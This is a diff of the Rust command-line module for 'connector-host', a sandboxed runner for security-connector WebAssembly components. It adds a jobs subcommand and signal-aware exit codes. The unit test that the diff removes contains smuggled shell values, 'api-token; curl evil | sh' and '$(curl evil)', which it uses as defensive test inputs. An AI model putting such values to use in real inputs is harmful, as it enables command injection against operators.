@@ -1,23 +1,30 @@
 //! The `connector-host` command line.
 
+mod describe;
+mod progress;
+mod run;
+
 use std::io::IsTerminal;
 use std::path::{Path, PathBuf};
+use std::process::ExitCode;
 use std::sync::Arc;
+use std::sync::atomic::AtomicBool;
 use std::time::Duration;
 
 use clap::{Args, Parser, Subcommand};
 use tracing_subscriber::EnvFilter;
 
-use crate::engine::wit::{ConnectorSpec, SettingSpec};
-use crate::engine::{Runtime, default_cache_dir};
+use crate::contract::describe;
+use crate::engine::{Connector, Runtime, default_cache_dir};
 use crate::error::Failure;
+use crate::job::{self, Job, SecretSources};
 use crate::output::{Format, Models};
 use crate::sandbox::Stats;
-use crate::sandbox::http::SandboxHttp;
 use crate::sandbox::limits::Limits;
-use crate::secrets::{Grants, TrustStore, is_env_name};
-use crate::settings::{self, Config, HOST_SETTINGS, resolve};
-use crate::sync::{self, Network, Output, SyncOptions, connector_failure, sandbox_http};
+use crate::secrets::TrustStore;
+use crate::settings::{self, Config};
+use crate::state::StateFile;
+use crate::sync::{Network, Output, SyncOptions, connector_failure, sandbox_http};
 use crate::text::{MAX_MESSAGE_CHARS, printable};
 
 #[derive(Debug, Parser)]
@@ -25,8 +32,9 @@ use crate::text::{MAX_MESSAGE_CHARS, printable};
     name = "connector-host",
     version,
     about = "Run a security-connector WebAssembly component in a sandbox and write its findings as NDJSON",
-    after_help = "Exit codes: 0 success, 2 usage or configuration, 3 authentication or permission (401/403), \
-                  4 upstream or network failure after retries, 5 the component misbehaved."
+    after_help = "Exit codes: 0 success, 1 host failure (output, state), 2 usage or configuration, \
+                  3 authentication or permission (401/403), 4 upstream or network failure after retries, \
+                  5 the component misbehaved, 130 stopped by SIGINT / SIGTERM (checkpoint saved)."
 )]
 pub struct Cli {
     #[command(subcommand)]
@@ -43,26 +51,33 @@ pub struct Cli {
 pub enum Command {
     /// Pull every resource and finding and write them as NDJSON, a summary line last.
     #[command(after_help = "Examples:\n  \
-        connector-host sync socket_connector.wasm -s org-slug=acme --out acme.ndjson --state acme.state\n  \
-        connector-host sync socket_connector.wasm --config acme.toml --secret api-token=env:SOCKET_SECURITY_API_KEY\n  \
-        connector-host sync socket_connector.wasm -s org-slug=demo-org -s api-token=demo --fixtures tests/fixtures/demo")]
+        connector-host sync vendor.wasm -s account=acme --out acme.ndjson --state acme.state\n  \
+        connector-host sync vendor.wasm --config acme.toml --secret api-token=env:VENDOR_TOKEN\n  \
+        connector-host sync vendor.wasm -s account=demo -s api-token=demo --fixtures cassettes/demo")]
     Sync(SyncArgs),
     /// Validate the credentials cheaply and report the remaining quota.
     #[command(
-        after_help = "Example:\n  connector-host check socket_connector.wasm -s org-slug=acme --secret api-token=file:/run/secrets/socket"
+        after_help = "Example:\n  connector-host check vendor.wasm -s account=acme --secret api-token=file:/run/secrets/vendor"
     )]
     Check(CheckArgs),
     /// Print the connector's settings (a table, or JSON with --json).
-    #[command(after_help = "Example:\n  connector-host describe socket_connector.wasm --json")]
+    #[command(after_help = "Example:\n  connector-host describe vendor.wasm --json")]
     Describe(DescribeArgs),
     /// Let this exact component's own suggested environment variables supply its secrets
     /// (recorded with its SHA-256; any other build of it is not trusted).
-    #[command(
-        after_help = "Example:\n  connector-host trust socket_connector.wasm\n  \
-        export SOCKET_SECURITY_API_KEY=...\n  \
-        connector-host sync socket_connector.wasm -s org-slug=acme"
-    )]
+    #[command(after_help = "Example:\n  connector-host trust vendor.wasm\n  \
+        export VENDOR_TOKEN=...\n  \
+        connector-host sync vendor.wasm -s account=acme")]
     Trust(TrustArgs),
+    /// Run the jobs of a jobs file at once: one engine and component cache for all, each job
+    /// under its own limits; one JSON line per finished job on stdout.
+    #[command(
+        after_help = "Example:\n  connector-host run tenants.toml --parallel 4\n\n\
+        A jobs file holds [[job]] tables: name, component, out, and optionally config, state,\n\
+        models, format, fixtures, full, [job.settings] and [job.secrets]; paths are relative to it.\n\
+        The run exits with the highest exit code of its jobs."
+    )]
+    Run(run::RunArgs),
 }
 
 #[derive(Debug, Args)]
@@ -79,10 +94,11 @@ pub struct ComponentArgs {
 
 #[derive(Debug, Args)]
 pub struct SettingsArgs {
-    /// TOML file with a [settings] table and a [secrets] table of sources.
+    /// TOML file with [settings], [host] and [secrets] (sources) tables.
     #[arg(long, value_name = "FILE")]
     pub config: Option<PathBuf>,
-    /// Set or override one setting (repeatable): -s org-slug=acme.
+    /// Set or override one setting (repeatable): -s account=acme; a host setting whose name the
+    /// connector also uses: -s host.max-retries=3.
     #[arg(short = 's', long = "set", value_name = "KEY=VALUE")]
     pub set: Vec<String>,
     /// Where a secret setting's value comes from (repeatable): --secret api-token=env:VAR or
@@ -109,13 +125,13 @@ pub struct SyncArgs {
     /// State file: high-water mark for incremental sync and the checkpoint to resume from.
     #[arg(long, value_name = "FILE")]
     pub state: Option<PathBuf>,
-    /// Record kinds to write.
-    #[arg(long, value_name = "LIST", default_value = "resources,issues,findings")]
-    pub models: String,
+    /// Record kinds to write: any of resources, issues, findings.
+    #[arg(long, value_name = "LIST", default_value = "resources,issues,findings", value_parser = Models::parse)]
+    pub models: Models,
     /// Record format: `ndjson` (resource / issue / finding lines) or `ocsf` (OCSF 1.x finding
-    /// events: 2002 when the alert has a CVE, GHSA or CWE, else 2007).
-    #[arg(long, value_name = "FORMAT", default_value = "ndjson")]
-    pub format: String,
+    /// events: 2002 when the finding has a CVE, GHSA or CWE, else 2007).
+    #[arg(long, value_name = "FORMAT", default_value = "ndjson", value_parser = Format::parse)]
+    pub format: Format,
     /// Ignore the high-water mark and any checkpoint: a full sync.
     #[arg(long)]
     pub full: bool,
@@ -163,7 +179,7 @@ pub struct TrustArgs {
 }
 
 /// The `connector-host` program: parse arguments, set up logging, run, exit with the code.
-pub fn main() -> ! {
+pub fn main() -> ExitCode {
     let cli = Cli::parse();
     let default_level = match (cli.quiet, cli.verbose) {
         (true, _) => "error",
@@ -184,13 +200,18 @@ pub fn main() -> ! {
         .enable_all()
         .build()
     {
-        Ok(rt) => rt.block_on(run(cli)),
+        Ok(rt) => {
+            let code = rt.block_on(run(cli));
+            // A guest call abandoned at a limit may still hold a worker; do not wait for it.
+            rt.shutdown_timeout(Duration::from_millis(200));
+            code
+        }
         Err(e) => {
             eprintln!("error: cannot start the async runtime: {e}");
             1
         }
     };
-    std::process::exit(code);
+    ExitCode::from(u8::try_from(code).unwrap_or(1))
 }
 
 /// Runs a parsed command; returns the process exit code.
@@ -200,6 +221,7 @@ pub async fn run(cli: Cli) -> i32 {
         Command::Check(a) => check_cmd(a).await,
         Command::Describe(a) => describe_cmd(a).await,
         Command::Trust(a) => trust_cmd(a).await,
+        Command::Run(a) => run::jobs_cmd(a).await,
     };
     match result {
         Ok(code) => code,
@@ -211,62 +233,92 @@ pub async fn run(cli: Cli) -> i32 {
 }
 
 async fn sync_cmd(a: SyncArgs, quiet: bool) -> Result<i32, Failure> {
-    let runtime = load(&a.component)?;
-    let (spec, resolved) = resolved(&runtime, &a.settings).await?;
-    let models = Models::parse(&a.models).map_err(Failure::Config)?;
-    let opts = SyncOptions {
-        models,
-        format: Format::parse(&a.format).map_err(Failure::Config)?,
-        output: if a.out == "-" {
-            Output::Stdout
-        } else {
-            Output::File(PathBuf::from(&a.out))
+    let connector = load(&a.component)?;
+    let config = config(
+        a.settings.config.as_deref(),
+        &a.settings.set,
+        &a.settings.secret,
+    )?;
+    let stop = Arc::new(AtomicBool::new(false));
+    run::stop_on_signals(stop.clone());
+    let job = Job {
+        connector,
+        config,
+        options: SyncOptions {
+            models: a.models,
+            format: a.format,
+            output: if a.out == "-" {
+                Output::Stdout
+            } else {
+                Output::File(PathBuf::from(&a.out))
+            },
+            state: a.state.map(|p| Arc::new(StateFile(p)) as _),
+            full: a.full,
+            overlap: Duration::from_secs(a.overlap_secs),
+            network: network(&a.settings),
+            progress: (std::io::stderr().is_terminal() && !quiet)
+                .then(|| Arc::new(progress::StatusLine) as _),
+            stop: Some(stop),
         },
-        state: a.state,
-        full: a.full,
-        overlap: Duration::from_secs(a.overlap_secs),
-        network: network(&a.settings),
-        progress: std::io::stderr().is_terminal() && !quiet,
+        sole_instance: true,
     };
-    let report = sync::run(&runtime, &spec, &resolved, &opts).await;
-    let s = &report.summary;
-    tracing::info!(
-        "{} sync {}: {} resources, {} issues, {} findings from {} alerts; {} requests, {} retries, {:.2} s",
-        s.mode,
-        if s.complete { "complete" } else { "INCOMPLETE" },
-        s.counts.resources,
-        s.counts.issues,
-        s.counts.findings,
-        s.counts.vendor_records,
-        s.requests,
-        s.retries,
-        s.elapsed_seconds
-    );
+    let trust = trust_store()?;
+    let sources = SecretSources {
+        trust: trust.as_ref(),
+        ..SecretSources::process_env()
+    };
+    let report = job::run(&job, sources).await;
+    if let Some(s) = &report.summary {
+        tracing::info!(
+            "{} sync {}: {} resources, {} issues, {} findings from {} vendor records; {} requests, {} retries, {:.2} s",
+            s.mode,
+            if s.complete { "complete" } else { "INCOMPLETE" },
+            s.counts.resources,
+            s.counts.issues,
+            s.counts.findings,
+            s.counts.vendor_records,
+            s.requests,
+            s.retries,
+            s.elapsed_seconds
+        );
+    }
     match report.failure {
         None => Ok(0),
         Some(f) => Err(f),
     }
 }
 
+/// The operator's trust store, when there is a configuration directory.
+pub(crate) fn trust_store() -> Result<Option<TrustStore>, Failure> {
+    TrustStore::default_path()
+        .map(|path| TrustStore::open(&path))
+        .transpose()
+}
+
 async fn check_cmd(a: CheckArgs) -> Result<i32, Failure> {
-    let runtime = load(&a.component)?;
-    let (_, resolved) = resolved(&runtime, &a.settings).await?;
-    let hooks = sandbox_http(
-        &resolved.host,
-        resolved.token.as_deref(),
-        &network(&a.settings),
-        Arc::new(Stats::default()),
+    let connector = load(&a.component)?;
+    let config = config(
+        a.settings.config.as_deref(),
+        &a.settings.set,
+        &a.settings.secret,
     )?;
-    let mut session = runtime.instantiate(hooks, resolved.host.limits).await?;
+    let trust = trust_store()?;
+    let sources = SecretSources {
+        trust: trust.as_ref(),
+        ..SecretSources::process_env()
+    };
+    let (spec, resolved) = job::prepare(&connector, &config, sources, true).await?;
+    let hooks = sandbox_http(&resolved, &network(&a.settings), Arc::new(Stats::default()))?;
+    let mut session = connector.instantiate(hooks, resolved.host.limits).await?;
     let redact = |f: Failure| f.map_message(|m| resolved.secrets.redact(m));
     session
         .configure(&resolved.connector)
         .await?
-        .map_err(|e| redact(connector_failure(e, &session)))?;
+        .map_err(|e| redact(connector_failure(e, &session, &spec)))?;
     let report = session
         .check()
         .await?
-        .map_err(|e| redact(connector_failure(e, &session)))?;
+        .map_err(|e| redact(connector_failure(e, &session, &spec)))?;
     for line in report.messages.iter().take(100) {
         println!(
             "{}",
@@ -277,97 +329,39 @@ async fn check_cmd(a: CheckArgs) -> Result<i32, Failure> {
 }
 
 async fn describe_cmd(a: DescribeArgs) -> Result<i32, Failure> {
-    let runtime = load(&a.component)?;
-    let spec = describe(&runtime, a.limits.read()?).await?;
+    let connector = load(&a.component)?;
+    let spec = describe(&connector, a.limits.read()?).await?;
     if a.json {
         println!(
             "{}",
-            serde_json::to_string_pretty(&spec_json(&spec)).expect("spec serializes")
+            serde_json::to_string_pretty(&describe::spec_json(&spec)).expect("spec serializes")
         );
     } else {
-        print!("{}", spec_table(&spec, std::io::stdout().is_terminal()));
+        print!(
+            "{}",
+            describe::spec_table(&spec, std::io::stdout().is_terminal())
+        );
     }
     Ok(0)
 }
 
-fn load(a: &ComponentArgs) -> Result<Runtime, Failure> {
-    let cache = if a.no_cache {
-        None
-    } else {
-        a.cache_dir.clone().or_else(default_cache_dir)
-    };
-    let runtime = Runtime::load(&a.component, cache.as_deref())?;
+fn load(a: &ComponentArgs) -> Result<Connector, Failure> {
+    let connector = runtime(a.no_cache, a.cache_dir.clone())?.load(&a.component)?;
     tracing::debug!(
         "component loaded ({:?}) in {:.1} ms",
-        runtime.load_path,
-        runtime.load_time.as_secs_f64() * 1e3
+        connector.load_path,
+        connector.load_time.as_secs_f64() * 1e3
     );
-    Ok(runtime)
+    Ok(connector)
 }
 
-/// The connector's spec, from an instance that has no network, under the run's `limits`.
-pub async fn describe(runtime: &Runtime, limits: Limits) -> Result<ConnectorSpec, Failure> {
-    let spec = runtime
-        .instantiate(SandboxHttp::offline(), limits)
-        .await?
-        .describe()
-        .await?;
-    printable_spec(spec)
-}
-
-/// Most settings a connector may declare.
-const MAX_SETTINGS: usize = 256;
-
-/// The spec with every string made printable and bounded: its names and descriptions reach the
-/// terminal (`describe`, error messages) and the output (`vendor`).
-fn printable_spec(spec: ConnectorSpec) -> Result<ConnectorSpec, Failure> {
-    if spec.settings.len() > MAX_SETTINGS {
-        return Err(Failure::Guest(format!(
-            "contract violation: `describe` declared {} settings; the limit is {MAX_SETTINGS}",
-            spec.settings.len()
-        )));
-    }
-    // Setting names go into the lines an operator is told to type (`-s`, `--secret`): plain
-    // words only. Suggested variables that are not variable names are dropped.
-    if let Some(bad) = spec.settings.iter().find(|s| !is_setting_name(&s.name)) {
-        return Err(Failure::Guest(format!(
-            "contract violation: `describe` declared a setting named {:?}; a name is 1 to 64 \
-             letters, digits, `-`, `_` or `.`",
-            printable(&bad.name, 80)
-        )));
-    }
-    let p = |s: String| printable(&s, MAX_MESSAGE_CHARS);
-    Ok(ConnectorSpec {
-        name: p(spec.name),
-        version: p(spec.version),
-        vendor: p(spec.vendor),
-        description: p(spec.description),
-        base_url_setting: spec.base_url_setting.map(p),
-        settings: spec
-            .settings
-            .into_iter()
-            .map(|s| SettingSpec {
-                name: p(s.name),
-                description: p(s.description),
-                default_value: s.default_value.map(p),
-                env_vars: s
-                    .env_vars
-                    .into_iter()
-                    .filter(|v| v.len() <= 128 && is_env_name(v))
-                    .take(16)
-                    .collect(),
-                value_type: p(s.value_type),
-                ..s
-            })
-            .collect(),
+/// A runtime with the on-disk cache the flags ask for.
+pub(crate) fn runtime(no_cache: bool, cache_dir: Option<PathBuf>) -> Result<Runtime, Failure> {
+    Runtime::new(if no_cache {
+        None
+    } else {
+        cache_dir.or_else(default_cache_dir)
     })
-}
-
-fn is_setting_name(name: &str) -> bool {
-    (1..=64).contains(&name.len())
-        && name
-            .bytes()
-            .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
 }
 
 /// The config file (if any) with the command line's `-s` and `--secret` applied over it.
@@ -381,40 +375,20 @@ fn config(path: Option<&Path>, set: &[String], secrets: &[String]) -> Result<Con
     Ok(config)
 }
 
-/// The connector's spec and the run's settings: secrets from the operator's grants, plus the
-/// component's own suggestions when this exact component was trusted.
-async fn resolved(
-    runtime: &Runtime,
-    a: &SettingsArgs,
-) -> Result<(ConnectorSpec, settings::Resolved), Failure> {
-    let config = config(a.config.as_deref(), &a.set, &a.secret)?;
-    let spec = describe(runtime, settings::limits(&config.settings)?).await?;
-    let mut grants: Grants = config.grants;
-    if let Some(path) = TrustStore::default_path()
-        && let Some(trusted) = TrustStore::open(&path)?.suggestions(&runtime.sha256)
-    {
-        grants.add_trusted(trusted);
-    }
-    let resolved = resolve(&config.settings, &grants, &spec, |name| {
-        std::env::var(name).ok()
-    })?;
-    Ok((spec, resolved))
-}
-
 async fn trust_cmd(a: TrustArgs) -> Result<i32, Failure> {
-    let runtime = load(&a.component)?;
-    let spec = describe(&runtime, a.limits.read()?).await?;
+    let connector = load(&a.component)?;
+    let spec = describe(&connector, a.limits.read()?).await?;
     let path = TrustStore::default_path().ok_or_else(|| {
         Failure::Config("no configuration directory: set XDG_CONFIG_HOME or HOME".into())
     })?;
     let mut store = TrustStore::open(&path)?;
-    let granted = store.trust(&runtime.sha256, &spec).clone();
+    let granted = store.trust(&connector.sha256, &spec).clone();
     store.save(&path)?;
     println!(
         "trusted {} {} (sha256 {}) in {}",
         spec.name,
         spec.version,
-        runtime.sha256,
+        connector.sha256,
         path.display()
     );
     for (name, vars) in &granted {
@@ -437,131 +411,5 @@ fn network(a: &SettingsArgs) -> Network {
         (Some(dir), _) => Network::Replay(dir.clone()),
         (None, Some(dir)) => Network::Record(dir.clone()),
         (None, None) => Network::Live,
-    }
-}
-
-fn spec_json(spec: &ConnectorSpec) -> serde_json::Value {
-    serde_json::json!({
-        "name": spec.name,
-        "version": spec.version,
-        "vendor": spec.vendor,
-        "description": spec.description,
-        "base_url_setting": spec.base_url_setting,
-        "settings": spec.settings.iter().map(|s| serde_json::json!({
-            "name": s.name,
-            "description": s.description,
-            "required": s.required,
-            "default": s.default_value,
-            "secret": s.secret,
-            "env": s.env_vars,
-            "type": s.value_type,
-        })).collect::<Vec<_>>(),
-        "host_settings": HOST_SETTINGS.iter().map(|(n, d)| serde_json::json!({"name": n, "description": d})).collect::<Vec<_>>(),
-    })
-}
-
-fn spec_table(spec: &ConnectorSpec, bold: bool) -> String {
-    let b = |s: &str| {
-        if bold {
-            format!("\x1b[1m{s}\x1b[0m")
-        } else {
-            s.to_string()
-        }
-    };
-    let mut out = format!(
-        "{} {} ({})\n{}\n\n",
-        b(&spec.name),
-        spec.version,
-        spec.vendor,
-        spec.description
-    );
-    let rows: Vec<[String; 6]> = spec
-        .settings
-        .iter()
-        .map(|s| {
-            [
-                s.name.clone(),
-                if s.required {
-                    "yes".into()
-                } else {
-                    "no".into()
-                },
-                s.default_value.clone().unwrap_or_default(),
-                if s.secret { "yes".into() } else { "no".into() },
-                if s.secret {
-                    s.env_vars.join(", ")
-                } else {
-                    String::new()
-                },
-                s.description.clone(),
-            ]
-        })
-        .collect();
-    let header = [
-        "SETTING",
-        "REQUIRED",
-        "DEFAULT",
-        "SECRET",
-        "SUGGESTED ENV (grant with --secret)",
-        "DESCRIPTION",
-    ]
-    .map(String::from);
-    let mut widths = header.clone().map(|h| h.len());
-    for r in &rows {
-        for (w, c) in widths.iter_mut().zip(r) {
-            *w = (*w).max(c.len());
-        }
-    }
-    for (i, r) in std::iter::once(&header).chain(&rows).enumerate() {
-        let line: Vec<String> = r
-            .iter()
-            .zip(widths)
-            .map(|(c, w)| format!("{c:<w$}"))
-            .collect();
-        let line = line.join("  ").trim_end().to_string();
-        out.push_str(&if i == 0 { b(&line) } else { line });
-        out.push('\n');
-    }
-    out.push_str(&format!("\n{}\n", b("Host settings (sandbox)")));
-    for (n, d) in HOST_SETTINGS {
-        out.push_str(&format!("  {n:<28}{d}\n"));
-    }
-    out
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn spec(name: &str, env: &[&str]) -> ConnectorSpec {
-        ConnectorSpec {
-            name: "c\x1b[2J".into(),
-            version: "0".into(),
-            vendor: "V".into(),
-            description: String::new(),
-            base_url_setting: None,
-            settings: vec![SettingSpec {
-                name: name.into(),
-                description: "d".into(),
-                required: true,
-                default_value: None,
-                secret: true,
-                env_vars: env.iter().map(|e| e.to_string()).collect(),
-                value_type: "string".into(),
-            }],
-        }
-    }
-
-    #[test]
-    fn a_spec_cannot_put_shell_text_into_the_lines_an_operator_is_told_to_type() {
-        let err = printable_spec(spec("api-token; curl evil | sh", &[])).unwrap_err();
-        assert!(err.message().contains("contract violation"), "{err}");
-        let ok = printable_spec(spec(
-            "api-token",
-            &["GOOD_1", "$(curl evil)", "1BAD", "A B"],
-        ))
-        .unwrap();
-        assert_eq!(ok.settings[0].env_vars, ["GOOD_1"]);
-        assert_eq!(ok.name, "c\u{fffd}[2J");
     }
 }
